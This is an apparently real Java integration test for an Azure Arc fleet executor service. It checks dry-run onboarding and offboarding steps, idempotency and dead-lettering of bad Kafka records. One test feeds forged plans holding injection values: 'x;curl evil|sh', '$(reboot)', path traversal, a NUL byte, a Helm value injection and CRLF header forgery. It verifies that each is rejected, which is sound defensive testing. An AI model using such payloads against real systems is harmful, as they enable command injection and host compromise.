package dev.arcfleet.executor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.arcfleet.contracts.Capability;
import dev.arcfleet.contracts.EventTypes;
import dev.arcfleet.contracts.OnboardingPlan;
import dev.arcfleet.contracts.Route;
import dev.arcfleet.contracts.StatusEvent;
import dev.arcfleet.contracts.StatusType;
import dev.arcfleet.contracts.Target;
import dev.arcfleet.contracts.TargetKind;
import dev.arcfleet.contracts.Topics;
import dev.arcfleet.testsupport.FleetInfraResource;
import dev.arcfleet.testsupport.PlanRecords;
import dev.arcfleet.testsupport.PoisonRecords;
import dev.arcfleet.testsupport.ServiceKafkaTest;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.smallrye.reactive.messaging.kafka.companion.ConsumerTask;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(
        value = FleetInfraResource.class,
        initArgs = @ResourceArg(name = "database", value = "executor_test"))
class DryRunExecutionTest extends ServiceKafkaTest {
    @Inject
    ObjectMapper mapper;

    @Test
    void theOpenApiDocumentDescribesTheApiAndItsBearerScheme() {
        io.restassured.path.json.JsonPath doc = io.restassured.RestAssured.given()
                .queryParam("format", "json")
                .get("/q/openapi")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
        org.assertj.core.api.Assertions.assertThat(doc.getString("info.title")).contains("executor-service");
        org.assertj.core.api.Assertions.assertThat(doc.getMap("paths"))
                .containsKeys("/api/v1/executions/{planId}", "/api/v1/executions/{planId}/retry");
        org.assertj.core.api.Assertions.assertThat(doc.getString("components.securitySchemes.fleetToken.scheme"))
                .isEqualTo("bearer");
        org.assertj.core.api.Assertions.assertThat(
                        String.valueOf(doc.<Object>get("paths.'/api/v1/executions/{planId}/retry'.post.security")))
                .as("a write names the scheme")
                .contains("fleetToken");
        io.restassured.RestAssured.given().get("/q/swagger-ui/").then().statusCode(200);
    }

    @Test
    void arcK8sPlanRunsEveryStepInDryRunAndReportsSucceeded() throws Exception {
        String cluster = "ghent-line3-" + UUID.randomUUID().toString().substring(0, 8);
        OnboardingPlan plan = plan(
                Route.ARC_K8S,
                new Target(TargetKind.CLUSTER, cluster),
                List.of(Capability.POLICY, Capability.MONITOR, Capability.GITOPS));
        ConsumerTask<String, String> status = kafka.consumeStrings().fromTopics(Topics.STATUS);

        send(Topics.PLANS_ARC_K8S, plan);

        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> RestAssured.get("/api/v1/executions/" + plan.planId())
                        .then()
                        .statusCode(200)
                        .body("state", equalTo("SUCCEEDED")));
        var view = RestAssured.get("/api/v1/executions/" + plan.planId())
                .then()
                .extract()
                .jsonPath();
        assertThat(view.getList("steps.name", String.class))
                .containsExactly(
                        "ensure-namespaces",
                        "ensure-agent-key-secret",
                        "ensure-resource-group",
                        "put-connected-cluster",
                        "install-arc-agents",
                        "await-agents-installed",
                        "revoke-installer-rights",
                        "await-connected",
                        "extension-azurepolicy",
                        "ensure-log-analytics-workspace",
                        "monitor-data-collection-rule",
                        "monitor-data-collection-rule-association",
                        "extension-azuremonitor-containers",
                        "extension-flux");
        assertThat(view.getString("steps[3].record.arm[0].resourceId"))
                .isEqualTo("/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/arc-fleet/providers/"
                        + "Microsoft.Kubernetes/connectedClusters/" + cluster);
        assertThat(view.getString("steps[3].record.arm[0].apiVersion")).isEqualTo("2026-03-01");
        assertThat(view.getString("steps[1].record.kubernetes[0].metadata.name"))
                .isEqualTo("azure-arc-connect-privatekey");
        assertThat(view.getString("steps[1].record.kubernetes[0].stringData.privateKey"))
                .isEqualTo("<redacted>");
        assertThat(view.getString("steps[1].record.kubernetesActions[0]")).isEqualTo("CREATE_ONLY");
        assertThat(view.getString("steps[1].record.unlessConnected.configMap"))
                .isEqualTo("azure-arc/azure-clusterconfig");
        assertThat(view.getString("steps[6].record.kubernetesActions[0]")).isEqualTo("DELETE");

        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> assertThat(statusTypes(status, plan.planId()))
                        .startsWith(StatusType.STARTED)
                        .endsWith(StatusType.SUCCEEDED)
                        .filteredOn(t -> t == StatusType.STEP_SUCCEEDED)
                        .hasSize(14));
        // every event names the revision it is about, so a reader can drop one of a revision the plan has left
        assertThat(status.getRecords().stream()
                        .map(r -> read(r.value()))
                        .filter(e -> plan.planId().equals(e.planId())))
                .isNotEmpty()
                .allSatisfy(e -> assertThat(e.revision()).isEqualTo(plan.revision()));
        status.close();
    }

    @Test
    void anOffboardingPlanShowsItsDeletesAsLiveWouldSendThemAndReportsOffboarded() throws Exception {
        String cluster = "retired-" + UUID.randomUUID().toString().substring(0, 8);
        OnboardingPlan plan = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, cluster), List.of(Capability.GITOPS));
        ConsumerTask<String, String> status = kafka.consumeStrings().fromTopics(Topics.STATUS);
        send(Topics.PLANS_ARC_K8S, plan);
        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> RestAssured.get("/api/v1/executions/" + plan.planId())
                        .then()
                        .statusCode(200)
                        .body("state", equalTo("SUCCEEDED")));

        OnboardingPlan off = plan.toOffboard(UUID.randomUUID().toString(), "r1-offboard", Instant.now());
        send(Topics.PLANS_ARC_K8S, off);
        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> RestAssured.get("/api/v1/executions/" + plan.planId())
                        .then()
                        .statusCode(200)
                        .body("action", equalTo("OFFBOARD"))
                        .body("state", equalTo("SUCCEEDED")));
        var view = RestAssured.get("/api/v1/executions/" + plan.planId())
                .then()
                .extract()
                .jsonPath();
        assertThat(view.getList("revisions", String.class)).containsExactly("r1-offboard", "r1");
        assertThat(view.getList("steps.name", String.class))
                .containsExactly(
                        "require-agents-of-this-cluster",
                        "delete-extension-flux",
                        "delete-connected-cluster",
                        "uninstall-arc-agents",
                        "await-agents-uninstalled",
                        "revoke-uninstaller-rights",
                        "delete-agent-namespaces");
        String cc = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/arc-fleet/providers/"
                + "Microsoft.Kubernetes/connectedClusters/" + cluster;
        assertThat(view.getString("steps[0].record.ifConnectedHere.configMap"))
                .isEqualTo("azure-arc/azure-clusterconfig");
        assertThat(view.getString("steps[1].record.arm[0].method")).isEqualTo("DELETE");
        assertThat(view.getString("steps[1].record.arm[0].resourceId"))
                .isEqualTo(cc + "/providers/Microsoft.KubernetesConfiguration/extensions/flux");
        assertThat(view.getString("steps[1].record.arm[0].apiVersion")).isEqualTo("2023-05-01");
        assertThat(view.getString("steps[2].record.arm[0].method")).isEqualTo("DELETE");
        assertThat(view.getString("steps[2].record.arm[0].resourceId")).isEqualTo(cc);
        assertThat(view.getString("steps[2].record.arm[0].apiVersion")).isEqualTo("2026-03-01");
        assertThat(view.getString("steps[6].record.kubernetesActions")).isEqualTo("[DELETE, DELETE]");

        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> assertThat(statusTypes(status, plan.planId()))
                        .containsSubsequence(
                                StatusType.STARTED, StatusType.SUCCEEDED, StatusType.OFFBOARDING, StatusType.OFFBOARDED)
                        .endsWith(StatusType.OFFBOARDED));
        status.close();
    }

    @Test
    void aPlanDeliveredTwiceExecutesOnce() throws Exception {
        String node = "lyon/talos-worker-" + UUID.randomUUID().toString().substring(0, 8);
        OnboardingPlan plan =
                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, node), List.of(Capability.EXTENSIONS));
        ConsumerTask<String, String> status = kafka.consumeStrings().fromTopics(Topics.STATUS);

        send(Topics.PLANS_COMPANION_VM, plan);
        send(Topics.PLANS_COMPANION_VM, plan);

        await().atMost(Duration.ofSeconds(30))
                .untilAsserted(
                        () -> assertThat(statusTypes(status, plan.planId())).contains(StatusType.SUCCEEDED));
        var view = RestAssured.get("/api/v1/executions/" + plan.planId())
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
        assertThat(view.getList("revisions")).hasSize(1);
        assertThat(view.getString(
                        "steps.find { it.name == 'apply-companion-vm' }.record.kubernetes[0].spec.runStrategy"))
                .isEqualTo("Always");
        assertThat(statusTypes(status, plan.planId()))
                .filteredOn(t -> t == StatusType.STARTED)
                .hasSize(1);
        status.close();
    }

    @Test
    void unknownPlanIdAnswers404() {
        RestAssured.get("/api/v1/executions/no-such-plan").then().statusCode(404);
    }

    /**
     * On each plan topic: bad JSON, an unknown event type or version, a plan missing its fields, and a plan for another
     * route. Each lands on the topic's dead-letter topic with the reason in its headers, and a good plan sent after
     * them still runs: consumption goes on.
     */
    @Test
    void poisonRecordsOnEveryPlanTopicAreDeadLetteredWithTheirReasonAndConsumptionGoesOn() throws Exception {
        Map<String, Route> topics = Map.of(
                Topics.PLANS_ARC_K8S,
                Route.ARC_K8S,
                Topics.PLANS_COMPANION_VM,
                Route.COMPANION_VM,
                Topics.PLANS_IOT_OPERATIONS,
                Route.IOT_OPERATIONS);
        for (Map.Entry<String, Route> topic : topics.entrySet()) {
            String key = "poison-" + UUID.randomUUID().toString().substring(0, 8);
            ConsumerTask<String, String> dlq = kafka.consumeStrings().fromTopics(Topics.deadLetter(topic.getKey()));
            Route other = topic.getValue() == Route.ARC_K8S ? Route.COMPANION_VM : Route.ARC_K8S;
            OnboardingPlan misrouted = plan(other, new Target(TargetKind.CLUSTER, key), List.of(Capability.POLICY));
            kafka.produceStrings()
                    .fromRecords(
                            PoisonRecords.of(topic.getKey(), key, EventTypes.PLAN_CREATED, "{not json"),
                            PoisonRecords.of(topic.getKey(), key, "dev.arcfleet.plan.created.v9", "{}"),
                            PoisonRecords.of(
                                    topic.getKey(),
                                    key,
                                    EventTypes.PLAN_CREATED,
                                    "{\"planId\": null, \"route\": \"" + topic.getValue() + "\"}"),
                            keyed(PlanRecords.of(topic.getKey(), misrouted, mapper.writeValueAsString(misrouted)), key))
                    .awaitCompletion();
            Target target = topic.getValue() == Route.COMPANION_VM
                    ? new Target(TargetKind.NODE, key + "-node")
                    : new Target(TargetKind.CLUSTER, key + "-good");
            OnboardingPlan good = plan(topic.getValue(), target, List.of(Capability.POLICY));
            send(topic.getKey(), good);

            await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> {
                List<String> reasons = dlq.getRecords().stream()
                        .filter(r -> key.equals(r.key()))
                        .map(r -> new String(
                                r.headers().lastHeader("dead-letter-reason").value(), StandardCharsets.UTF_8))
                        .toList();
                assertThat(reasons).as(topic.getKey()).hasSize(4);
                assertThat(String.join("\n", reasons))
                        .contains("v9")
                        .contains("lacks planId")
                        .contains("arrived on the");
                RestAssured.get("/api/v1/executions/" + good.planId())
                        .then()
                        .statusCode(200)
                        .body("state", equalTo("SUCCEEDED"));
            });
            dlq.close();
        }
    }

    /**
     * Plans anyone with write access to a plan topic could forge: ids that carry shell syntax, a path, 10,000
     * characters or a NUL, a parameter that would add a Helm value, a cluster parameter that points elsewhere than the
     * target, an unknown capability, oversized headers. Each is dead-lettered with a reason naming the field, none
     * reaches the worker pool (no execution exists for it), and a good plan sent after them still succeeds.
     */
    @Test
    void hostilePlansAreDeadLetteredWithTheirReasonAndNeverExecuted() throws Exception {
        String key = "hostile-" + UUID.randomUUID().toString().substring(0, 8);
        ConsumerTask<String, String> vmDlq =
                kafka.consumeStrings().fromTopics(Topics.deadLetter(Topics.PLANS_COMPANION_VM));
        ConsumerTask<String, String> arcDlq =
                kafka.consumeStrings().fromTopics(Topics.deadLetter(Topics.PLANS_ARC_K8S));
        Map<String, String> vmParams = Map.of("clusterId", "lyon", "hostNode", "worker-1");
        List<OnboardingPlan> vmPlans = List.of(
                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "x;curl evil|sh"), List.of(), vmParams),
                plan(
                        Route.COMPANION_VM,
                        new Target(TargetKind.NODE, "lyon/worker-1"),
                        List.of(),
                        Map.of("clusterId", "../../etc", "hostNode", "worker-1")),
                plan(
                        Route.COMPANION_VM,
                        new Target(TargetKind.NODE, "lyon/worker-1"),
                        List.of(),
                        Map.of("clusterId", "lyon", "hostNode", "worker\0-1")),
                plan(
                        Route.COMPANION_VM,
                        new Target(TargetKind.NODE, "lyon/worker-1"),
                        List.of(),
                        Map.of("clusterId", "lyon", "hostNode", "$(reboot)")),
                plan(
                        Route.COMPANION_VM,
                        new Target(TargetKind.NODE, "lyon/worker-1"),
                        List.of(),
                        Map.of("clusterId", "lyon", "hostNode", "worker-1", "site", "lab\nFORGED")));
        List<OnboardingPlan> arcPlans = List.of(
                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "c".repeat(10_000)), List.of(Capability.GITOPS)),
                plan(
                        Route.ARC_K8S,
                        new Target(TargetKind.CLUSTER, "ghent-line3"),
                        List.of(Capability.GITOPS),
                        Map.of("distribution", "k3s,global.resourceName=evil")),
                plan(
                        Route.ARC_K8S,
                        new Target(TargetKind.CLUSTER, "ghent-line3"),
                        List.of(Capability.GITOPS),
                        Map.of("clusterId", "platform-own-cluster")),
                plan(Route.ARC_K8S, new Target(TargetKind.NODE, "ghent-line3"), List.of(Capability.GITOPS)),
                new OnboardingPlan(
                        UUID.randomUUID().toString(),
                        "corr-1\r\nFORGED",
                        Instant.now(),
                        UUID.randomUUID().toString(),
                        "r1",
                        Route.ARC_K8S,
                        new Target(TargetKind.CLUSTER, "ghent-line3"),
                        List.of(),
                        List.of(),
                        List.of(),
                        null,
                        "p",
                        Map.of()));
        List<ProducerRecord<String, String>> records = new java.util.ArrayList<>();
        for (OnboardingPlan plan : vmPlans) {
            records.add(keyed(PlanRecords.of(Topics.PLANS_COMPANION_VM, plan, mapper.writeValueAsString(plan)), key));
        }
        for (OnboardingPlan plan : arcPlans) {
            records.add(keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, plan, mapper.writeValueAsString(plan)), key));
        }
        // an unknown capability, and a good plan's JSON under a ce_id no column holds and a header of 100 kB
        OnboardingPlan unknownCapability =
                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
        records.add(keyed(
                PlanRecords.of(
                        Topics.PLANS_ARC_K8S,
                        unknownCapability,
                        mapper.writeValueAsString(unknownCapability)
                                .replace("\"capabilities\":[]", "\"capabilities\":[\"ROOTKIT\"]")),
                key));
        OnboardingPlan longEventId = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
        ProducerRecord<String, String> longId =
                keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, longEventId, mapper.writeValueAsString(longEventId)), key);
        longId.headers()
                .remove(EventTypes.CE_ID)
                .add(EventTypes.CE_ID, "e".repeat(300).getBytes(StandardCharsets.UTF_8));
        records.add(longId);
        OnboardingPlan bigHeader = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
        ProducerRecord<String, String> big =
                keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, bigHeader, mapper.writeValueAsString(bigHeader)), key);
        big.headers().add("x-padding", new byte[100_000]);
        records.add(big);
        kafka.produceStrings().fromRecords(records).awaitCompletion();

        OnboardingPlan good =
                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, key + "-good"), List.of(Capability.POLICY));
        send(Topics.PLANS_ARC_K8S, good);
        OnboardingPlan goodVm = plan(
                Route.COMPANION_VM,
                new Target(TargetKind.NODE, "lyon/" + key + "-vm"),
                List.of(),
                Map.of("clusterId", "lyon", "hostNode", key + "-vm", "site", "lyon"));
        send(Topics.PLANS_COMPANION_VM, goodVm);

        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> {
            List<String> vmReasons = reasons(vmDlq, key);
            List<String> arcReasons = reasons(arcDlq, key);
            assertThat(vmReasons).as("companion-vm dead letters").hasSize(vmPlans.size());
            assertThat(arcReasons).as("arc-k8s dead letters").hasSize(arcPlans.size() + 3);
            assertThat(String.join("\n", vmReasons))
                    .contains("target.id")
                    .contains("parameters.clusterId")
                    .contains("parameters.hostNode")
                    .contains("parameters.site")
                    .doesNotContain("\0");
            assertThat(String.join("\n", arcReasons))
                    .contains("target.id")
                    .contains("parameters.distribution")
                    .contains("parameters.clusterId")
                    .contains("target.kind")
                    .contains("ce_correlationid")
                    .contains("ROOTKIT")
                    .contains("ce_id")
                    .contains("headers")
                    .doesNotContain("\r\n");
            RestAssured.get("/api/v1/executions/" + good.planId())
                    .then()
                    .statusCode(200)
                    .body("state", equalTo("SUCCEEDED"));
            RestAssured.get("/api/v1/executions/" + goodVm.planId())
                    .then()
                    .statusCode(200)
                    .body("state", equalTo("SUCCEEDED"));
        });
        for (OnboardingPlan hostile : java.util.stream.Stream.of(
                        vmPlans, arcPlans, List.of(unknownCapability, longEventId, bigHeader))
                .flatMap(List::stream)
                .toList()) {
            RestAssured.get("/api/v1/executions/" + hostile.planId()).then().statusCode(404);
        }
        vmDlq.close();
        arcDlq.close();
    }

    private static List<String> reasons(ConsumerTask<String, String> dlq, String key) {
        return dlq.getRecords().stream()
                .filter(r -> key.equals(r.key()))
                .map(r ->
                        new String(r.headers().lastHeader("dead-letter-reason").value(), StandardCharsets.UTF_8))
                .toList();
    }

    private static ProducerRecord<String, String> keyed(ProducerRecord<String, String> record, String key) {
        return new ProducerRecord<>(record.topic(), null, key, record.value(), record.headers());
    }

    private List<StatusType> statusTypes(ConsumerTask<String, String> task, String planId) {
        return task.getRecords().stream()
                .map(r -> read(r.value()))
                .filter(e -> planId.equals(e.planId()))
                .map(StatusEvent::type)
                .toList();
    }

    private StatusEvent read(String json) {
        try {
            return mapper.readValue(json, StatusEvent.class);
        } catch (Exception e) {
            throw new AssertionError("status event is not valid JSON: " + json, e);
        }
    }

    private OnboardingPlan plan(Route route, Target target, List<Capability> capabilities) {
        return plan(route, target, capabilities, Map.of("distribution", "k3s"));
    }

    private OnboardingPlan plan(
            Route route, Target target, List<Capability> capabilities, Map<String, String> parameters) {
        return new OnboardingPlan(
                UUID.randomUUID().toString(),
                "corr-" + UUID.randomUUID(),
                Instant.now(),
                UUID.randomUUID().toString(),
                "r1",
                route,
                target,
                List.of(target.id()),
                capabilities,
                List.of(),
                null,
                "2026-11-24.1",
                parameters);
    }

    private void send(String topic, OnboardingPlan plan) throws Exception {
        kafka.produceStrings()
                .fromRecords(PlanRecords.of(topic, plan, mapper.writeValueAsString(plan)))
                .awaitCompletion();
    }
}
